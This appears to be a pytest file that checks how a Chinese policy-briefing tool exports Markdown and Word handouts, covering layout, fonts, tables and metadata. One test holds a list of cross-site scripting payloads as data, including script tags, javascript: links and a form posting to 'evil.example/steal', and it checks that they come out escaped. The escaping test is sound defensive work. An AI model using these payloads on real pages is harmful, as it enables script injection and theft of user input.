"""Export: hostile document text comes out inert in Markdown and the preview; the Word handout read back with python-docx."""

from __future__ import annotations

import datetime

import docx
import pytest
from docx.oxml.ns import qn
from markdown_it import MarkdownIt

from assistant.briefing import build_briefing, to_docx, to_markdown
from assistant.briefing.briefing import Briefing, DocumentPoints, Group
from assistant.records import Citation, Kind, Unit

DAY = datetime.date(2025, 1, 1)
NOW = datetime.datetime(2025, 1, 1, 9, 30)
NOW_UTC = NOW.replace(tzinfo=datetime.UTC)  # python-docx reads W3CDTF dates back as UTC
PAYLOADS = (
    "<script>alert(1)</script>",
    '<a href="javascript:alert(1)">点击</a>',
    '<form action="https://evil.example/steal"><input name="p"></form>',
    '<img src=x onerror="alert(1)">',
    "[链接](javascript:alert(1))",
)


def _hostile() -> Briefing:
    text = "加强组织领导。" + "".join(PAYLOADS) + "。"
    unit = Unit(
        "evil/1",
        "evil",
        "<b>恶意</b>文件",
        Kind.PARAGRAPH,
        "第一章 <i>加强</i>组织领导",
        ("第一章 <script>x</script>",),
        text,
        0,
        len(text),
    )
    point = Citation(1, unit, text)
    section = DocumentPoints("evil", "<b>恶意</b>文件", (Group("第一章 <i>加强</i>组织领导", (point,)),))
    return Briefing("组织领导", "《<b>恶意</b>文件》", "2025-01-01", True, (section,), sources=(unit,))


def test_document_markup_is_inert_in_the_markdown_and_its_preview():
    markdown = to_markdown(_hostile())
    for tag in ("<script", "<a ", "<form", "<img", "<input", "<b>", "<i>", "](javascript"):
        assert tag not in markdown
    assert "&lt;script&gt;alert&#40;1&#41;&lt;/script&gt;" in markdown
    html = MarkdownIt("commonmark", {"html": True}).render(markdown)  # what the app's preview renders
    for tag in ("<script", "<a ", "<form", "<img", "<input", "<b>", "<i>", 'href="javascript'):
        assert tag not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # shown as the text it is


@pytest.fixture(scope="module")
def handout(assistant, tmp_path_factory):
    path = tmp_path_factory.mktemp("docx") / "工业遗产.docx"
    to_docx(build_briefing(assistant, "工业遗产", date=DAY), path, now=NOW)
    return docx.Document(str(path))


def test_the_word_handout_is_a4_with_the_topic_in_the_header_and_page_numbers(handout):
    section = handout.sections[0]
    assert (round(section.page_width.mm), round(section.page_height.mm)) == (210, 297)
    assert (round(section.left_margin.mm), round(section.right_margin.mm)) == (28, 28)
    assert section.header.paragraphs[0].text == "专题简报：工业遗产"
    footer = section.footer.paragraphs[0]
    fields = [t.text.strip() for t in footer._p.iter(qn("w:instrText"))]
    assert (fields, footer.text) == (["PAGE", "NUMPAGES"], "第 1 页　共 1 页")


def test_styles_carry_chinese_fonts_and_language_headings_too(handout):
    for name, font in (
        ("Normal", "宋体"),
        ("Title", "黑体"),
        ("Heading 1", "黑体"),
        ("Heading 2", "黑体"),
        ("Heading 3", "黑体"),
        ("简报引文", "宋体"),
    ):
        rpr = handout.styles[name].element.rPr
        fonts = rpr.find(qn("w:rFonts"))
        assert fonts.get(qn("w:eastAsia")) == font, name
        assert fonts.get(qn("w:eastAsiaTheme")) is None and fonts.get(qn("w:asciiTheme")) is None, name
        assert rpr.find(qn("w:lang")).get(qn("w:eastAsia")) == "zh-CN", name
    defaults = handout.styles.element.find(qn("w:docDefaults")).find(qn("w:rPrDefault")).find(qn("w:rPr"))
    assert defaults.find(qn("w:lang")).get(qn("w:eastAsia")) == "zh-CN"


def test_quotes_are_upright_with_short_references(handout):
    quotes = [p for p in handout.paragraphs if p.style.name == "简报引文"]
    assert handout.styles["简报引文"].font.italic is False
    assert not any(run.italic for p in quotes for run in p.runs)
    assert quotes[0].text.endswith("　[1] 第三章第二节")
    assert "Quote" not in {p.style.name for p in handout.paragraphs}


def test_the_indicator_table_has_fitting_widths_and_a_repeated_header_row(handout):
    boxes, table = handout.tables
    assert [c.text for c in table.rows[0].cells] == ["指标", "2020年实际", "2025年目标", "出处"]
    assert [c.text for c in table.rows[1].cells] == ["工业遗产保护利用（五年累计数）", "85处", "≥110处", "[15] 表1 第6项"]
    assert [round(c.width.mm) for c in table.rows[1].cells] == [56, 22, 22, 54]
    assert sum(c.width.mm for c in table.rows[0].cells) <= 210 - 2 * 28 + 0.5
    header = table.rows[0]._tr.trPr.find(qn("w:tblHeader"))
    assert header is not None and header.get(qn("w:val")) == "true"
    # the 专栏 items of the topic's section are a table of their own: item, what it says, reference
    assert [[c.text for c in row.cells] for row in boxes.rows][:3] == [
        ["事项", "内容", "出处"],
        ["南京", boxes.rows[1].cells[1].text, "[5] 专栏2 南京"],
        ["徐州", "重点推进创意68文创产业园、阿卡制造阀门厂文化科技产业园、睿商龙湖现代商务产业园建设。", "[6] 专栏2 徐州"],
    ]
    assert [round(c.width.mm) for c in boxes.rows[1].cells] == [28, 96, 30]


def test_the_core_properties_come_from_the_project(handout):
    properties = handout.core_properties
    assert (properties.title, properties.subject, properties.author, properties.last_modified_by) == (
        "专题简报：工业遗产",
        "工业遗产",
        "政策文件助手",
        "政策文件助手",
    )
    assert (properties.created, properties.modified, properties.language) == (NOW_UTC, NOW_UTC, "zh-CN")


def test_the_current_time_is_the_default_creation_date(assistant, tmp_path):
    path = to_docx(build_briefing(assistant, "航天产业", date=DAY), tmp_path / "none.docx")
    created = docx.Document(str(path)).core_properties.created
    assert abs((datetime.datetime.now(datetime.UTC) - created).total_seconds()) < 120
